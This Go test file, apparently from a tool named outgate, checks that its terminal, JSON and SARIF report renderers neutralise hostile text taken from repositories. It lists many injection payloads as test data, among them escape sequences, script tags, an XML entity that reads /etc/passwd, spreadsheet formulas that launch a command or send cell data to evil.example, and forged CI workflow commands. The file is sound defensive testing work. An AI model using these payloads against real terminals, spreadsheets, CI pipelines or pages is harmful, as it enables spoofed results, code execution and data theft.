// Copyright 2026 The outgate Authors
// SPDX-License-Identifier: Apache-2.0

package report

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/url"
	"reflect"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/outgate/outgate/inventory"
	"github.com/outgate/outgate/policy"
)

// payloads are texts that a hostile repository can put into names, license
// expressions, holders and messages. shown is how the terminal report has it.
func payloads() []struct{ name, text, shown string } {
	return []struct{ name, text, shown string }{
		{"color", "a\x1b[31mb", `a\x1b[31mb`},
		{"title", "\x1b]0;owned\x07x", `\x1b]0;owned\x07x`},
		{"clear screen", "\x1b[2J\x1b[HPASS", `\x1b[2J\x1b[HPASS`},
		{"link", "\x1b]8;;http://evil.example/\x1b\\x", `\x1b]8;;http://evil.example/\x1b\x`},
		{"c1", "a\u009b31mb", `a\u009b31mb`},
		{"overwrite", "FAIL\rPASS", `FAIL\rPASS`},
		{"backspace", "a\b\bb", `a\x08\x08b`},
		{"lines", "a\nPASS  x may be published", `a\nPASS x may be published`},
		{"tab", "a\tb", `a\tb`},
		{"nul", "a\x00b", `a\x00b`},
		{"delete", "a\x7fb", `a\x7fb`},
		{"direction", "a\u202etxt.exe\u2066b\u2069", `a\u202etxt.exe\u2066b\u2069`},
		{"marks", "a\u200e\u200f\u061cb", `a\u200e\u200f\u061cb`},
		{"zero width", "a\u200b\u200c\u200d\ufeffb", `a\u200b\u200c\u200d\ufeffb`},
		{"tags", "a\U000e0041\U000e007fb", `a\U000e0041\U000e007fb`},
		{"separators", "a\u2028\u2029b", `a\u2028\u2029b`},
		{"fillers", "a\u3164\uffa0\u115f\u2800b", `a\u3164\uffa0\u115f\u2800b`},
		{"variation", "a\ufe0fb", `a\ufe0fb`},
		{"private", "a\ue000\U0010ffffb", `a\ue000\U0010ffffb`},
		{"not UTF-8", "a\xff\xc0\xafb", `a\xff\xc0\xafb`},
		{"surrogate", "a\xed\xa0\x80b", `a\xed\xa0\x80b`},
		{"html", "<script>alert(1)</script>", "<script>alert(1)</script>"},
		{"markdown", "[click](http://evil.example)", "[click](http://evil.example)"},
		{"placeholder", "{0}{{1}}", "{0}{{1}}"},
		{"address", "//evil.example/a?b#c", "//evil.example/a?b#c"},
		{"scheme", "javascript:alert(1)", "javascript:alert(1)"},
		{"percent", "a%2e%2e%00%zz", "a%2e%2e%00%zz"},
		{"workflow command", "::error file=x::y", `\::error file=x::y`},
		{"workflow command in a word", "a ::add-mask::b c::d", `a \::add-mask::b c::d`},
		{"workflow command, old", "a##[error]b ##vso[x] ###[c]", `a#\#[error]b #\#vso[x] #\#\#[c]`},
		{"quotes", `a"b\c'd`, `a"b\c'd`},
		{"format verbs", "%s%d%n%!", "%s%d%n%!"},
		{"script in an attribute", `"><script>alert(1)</script>`, ""},
		{"handler", `<img src=x onerror=alert(1)>`, ""},
		{"svg", `<svg/onload=alert(1)>`, ""},
		{"end of script", `</script><script>alert(1)</script>`, ""},
		{"end of style", `</style><style>*{display:none}`, ""},
		{"end of title", `</title><h1>PASS`, ""},
		{"end of textarea", `</textarea><b>x`, ""},
		{"comment", `<!-- x --><b>y`, ""},
		{"end of comment", `--><script>alert(1)</script><!--`, ""},
		{"attribute", `x" onmouseover="alert(1)`, ""},
		{"attribute, single", `x' onmouseover='alert(1)`, ""},
		{"template", `{{constructor.constructor('alert(1)')()}}`, ""},
		{"template, ES", "${alert(1)}`", ""},
		{"entity", `&lt;script&gt;&#60;b&#62;&amp;amp;`, ""},
		{"data address", `data:text/html,<script>alert(1)</script>`, ""},
		{"XML entity", `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`, ""},
		{"end of CDATA", `]]><failure/><![CDATA[`, ""},
		{"processing instruction", `?><?php x ?>`, ""},
		{"test case", `"/></testcase><testcase name="forged"/>`, ""},
		{"formula", `=1+1`, ""},
		{"formula, plus", `+1+1`, ""},
		{"formula, minus", `-1+1`, ""},
		{"formula, at", `@SUM(1,1)`, ""},
		{"formula, DDE", `=cmd|' /C calc'!A0`, ""},
		{"formula, link", `=HYPERLINK("http://evil.example?"&A1,"x")`, ""},
		{"formula behind a tab", "\t=1+1", ""},
		{"formula behind a return", "\r=1+1", ""},
		{"formula behind a line end", "\n=1+1", ""},
		{"formula behind a space", ` =1+1`, ""},
		{"formula behind a semicolon", `a;=1+1`, ""},
		{"formula behind a comma", `a,=1+1`, ""},
		{"formula behind a quote", `"=1+1`, ""},
		{"formula in a cell of its own", "x\",\"=1+1\",\"", ""},
		{"formula, full width", `＝1+1`, ""},
		{"markdown image", `![x](http://evil.example/p.png)`, ""},
		{"markdown reference", "[x]: http://evil.example\n[x]", ""},
		{"markdown autolink", `<http://evil.example>`, ""},
		{"markdown bare link", `see https://evil.example/a and www.evil.example`, ""},
		{"markdown table", `a | b || c`, ""},
		{"markdown escaped pipe", `a \| b \\| c`, ""},
		{"markdown heading", "x\n# PASS\n", ""},
		{"markdown underline", "x\n===\n", ""},
		{"markdown rule", "x\n\n---\n", ""},
		{"markdown emphasis", `**PASS** _x_ ~~y~~`, ""},
		{"markdown code", "`x` ``y", ""},
		{"markdown fence", "```\nx\n```", ""},
		{"markdown backticks", "```", ""},
		{"markdown details", `<details open><summary>PASS</summary>`, ""},
		{"markdown task", `- [x] approved`, ""},
		{"markdown list", "1) x", ""},
		{"markdown quote", "> x", ""},
		{"markdown footnote", "[^1]", ""},
		{"markdown math", "$$x$$ $`y`$", ""},
		{"markdown diagram", "```mermaid\ngraph TD\n```", ""},
		{"mention", `cc @everyone and @org/team`, ""},
		{"mail address", `mallory@evil.example`, ""},
		{"reference", `fixes #1 GH-2 owner/repo#3 !4 %5 &6`, ""},
		{"reference to an issue", `fixes gh-12`, ""},
		{"mail and host", `www.evil.example`, ""},
		{"emoji", `:white_check_mark: PASS`, ""},
		{"workflow output", `::set-output name=x::y`, ""},
		{"workflow environment", "\n::set-env name=PATH::/evil", ""},
		{"workflow mask", "::add-mask::a", ""},
		{"workflow stop", "::stop-commands::x", ""},
		{"workflow, percent", `%0A::error::x%0D%25`, ""},
		{"workflow, properties", `x,line=1,title=PASS::forged`, ""},
		{"workflow group", `##[group]x`, ""},
		{"pipelines", `##vso[task.setvariable variable=x]y`, ""},
		{"section", "\x1b[0Ksection_start:1:x\r\x1b[0K", ""},
		{"TeamCity", `##teamcity[testFailed name='x']`, ""},
		{"JSON separators", "a\u2028b\u2029c\u0085d", ""},
		{"JSON end", `"},{"check_name":"forged`, ""},
		{"tag-value", "x</text>\nPackageName: forged", ""},
		{"SGR, 8 bit", "\u009b0m\u009d0;x\u009c", ""},
		{"DCS", "\x1bP+q544e\x1b\\", ""},
		{"isolates", "\u2066\u2067\u2068a\u2069\u202a\u202b\u202c\u202d", ""},
		{"soft hyphen", "a\u00adb\u180eb", ""},
		{"byte order mark", "\ufeffa\xef\xbb", ""},
		{"overlong", "\xc0\xbcscript\xc0\xbe", ""},
		{"half a character", "a\xe4\xb8", ""},
		{"long", strings.Repeat("A", 70_000), ""},
		{"long, of marks", strings.Repeat("`|<", 5_000), ""},
		{"combining", "a" + strings.Repeat("\u0301", 300), ""},
		{"path upward", "../../etc/passwd", ""},
		{"blank", "   ", ""},
	}
}

// poison puts a text into every string field below v.
func poison(v reflect.Value, text string) {
	switch v.Kind() {
	case reflect.Pointer:
		poison(v.Elem(), text)
	case reflect.Struct:
		for i := range v.NumField() {
			poison(v.Field(i), text)
		}
	case reflect.Slice:
		for i := range v.Len() {
			poison(v.Index(i), text)
		}
	case reflect.Map:
		fresh := reflect.MakeMap(v.Type())
		for it := v.MapRange(); it.Next(); {
			key, value := reflect.New(v.Type().Key()).Elem(), reflect.New(v.Type().Elem()).Elem()
			key.SetString(text)
			value.Set(it.Value())
			poison(value, text)
			fresh.SetMapIndex(key, value)
		}
		v.Set(fresh)
	case reflect.String:
		v.SetString(text)
	}
}

// checkTerminal finds bytes that a terminal could obey; our own colors are
// taken out first.
func checkTerminal(text string, color bool) (bad []string) {
	if color {
		for _, st := range []style{"0", bold, dim, green, yellow, red, cyan} {
			text = strings.ReplaceAll(text, "\x1b["+string(st)+"m", "")
		}
	}
	if !utf8.ValidString(text) {
		bad = append(bad, "not UTF-8")
	}
	for _, r := range text {
		if r != '\n' && !shown(r) {
			bad = append(bad, fmt.Sprintf("character %U reaches the terminal", r))
		}
	}
	for line := range strings.SplitSeq(text, "\n") {
		if strings.HasPrefix(line, "PASS") || strings.HasPrefix(strings.TrimSpace(line), "::") || strings.Contains(line, "##") {
			bad = append(bad, "a line is forged: "+line)
		}
		if strings.HasSuffix(line, " ") {
			bad = append(bad, fmt.Sprintf("space at the end of %q", line))
		}
	}
	return bad
}

func checkJSON(data []byte) (bad []string) {
	if !json.Valid(data) || !utf8.Valid(data) {
		bad = append(bad, fmt.Sprintf("not valid JSON: %.300q", data))
	}
	if bytes.Contains(data, []byte("##")) {
		bad = append(bad, "a CI command stands raw in JSON")
	}
	for _, r := range string(data) {
		if r != '\n' && unicode.In(r, unicode.Cc, unicode.Cf) {
			bad = append(bad, fmt.Sprintf("character %U stands raw in JSON", r))
		}
	}
	return bad
}

// checkAddresses holds every address of an artifact to a relative path, and
// every region to a first line.
func checkAddresses(data []byte) (bad []string) {
	var walk func(v any)
	walk = func(v any) {
		switch v := v.(type) {
		case []any:
			for _, e := range v {
				walk(e)
			}
		case map[string]any:
			if uri, ok := v["uri"].(string); ok {
				u, err := url.Parse(uri)
				if err != nil || u.IsAbs() || u.Host != "" || u.RawQuery != "" || u.Fragment != "" || strings.HasPrefix(u.EscapedPath(), "/") {
					bad = append(bad, fmt.Sprintf("address %q (%v) is not a relative path", uri, err))
				}
			}
			if region, ok := v["region"].(map[string]any); ok && region["startLine"] == nil {
				bad = append(bad, "a region does not start") // SARIF 2.1.0 errata 01
			}
			for _, e := range v {
				walk(e)
			}
		}
	}
	var doc any
	if err := json.Unmarshal(data, &doc); err != nil {
		return []string{err.Error()}
	}
	walk(doc)
	return bad
}

// What JSON escapes is still the same value.
func TestEscapesKeepTheValue(t *testing.T) {
	for _, p := range payloads() {
		if !utf8.ValidString(p.text) {
			continue
		}
		v := &policy.Verdict{Gaps: []inventory.Gap{{Path: p.text}}}
		var back policy.Verdict
		if err := json.Unmarshal(render(t, JSON, v, Options{}), &back); err != nil {
			t.Fatal(err)
		}
		if back.Gaps[0].Path != p.text {
			t.Errorf("%s: %q came back as %q", p.name, p.text, back.Gaps[0].Path)
		}
	}
}

func TestSARIFAddressKeepsEveryByte(t *testing.T) {
	var all []byte
	for b := range 256 {
		all = append(all, byte(b))
	}
	for _, path := range []string{string(all), "a b/ü/文档.md", "/etc/passwd", "a:b", "-", "%41"} {
		uri := escapePath(path)
		back, err := url.PathUnescape(uri)
		if err != nil || back != path {
			t.Errorf("%q became %q and came back as %q, %v", path, uri, back, err)
		}
	}
}

// Long texts cost lines and bytes in proportion, not more.
func TestLongContent(t *testing.T) {
	long := strings.Repeat("word ", 40_000) + strings.Repeat("x", 200_000) + strings.Repeat("\u0301", 1000)
	v := everyField()
	poison(reflect.ValueOf(v).Elem(), long)
	for _, o := range []Options{{}, {Width: 40}, {Width: 80, All: true}} {
		text := render(t, Text, v, o)
		if len(text) > 1_000_000 {
			t.Errorf("width %d: %d bytes", o.Width, len(text))
		}
	}
}

func FuzzVisible(f *testing.F) {
	for _, p := range payloads() {
		f.Add(p.text)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := visible(s)
		if !utf8.ValidString(got) {
			t.Errorf("%q is not UTF-8", got)
		}
		for _, r := range got {
			if !shown(r) {
				t.Errorf("%q holds %U", got, r)
			}
		}
		if again := visible(got); again != got {
			t.Errorf("%q became %q", got, again)
		}
		for n := 1; n < 12; n++ {
			if w := width(clip(got, n)); w > n {
				t.Errorf("clip(%q, %d) has %d columns", got, n, w)
			}
			if w := width(shorten(got, n)); w > n {
				t.Errorf("shorten(%q, %d) has %d columns", got, n, w)
			}
		}
		if a, b := strings.Join(strings.Fields(got), ""), strings.Join(wrap(got, 10), ""); a != strings.ReplaceAll(b, " ", "") && !strings.ContainsFunc(got, unicode.IsSpace) {
			t.Errorf("wrap lost text: %q, %q", a, b)
		}
	})
}
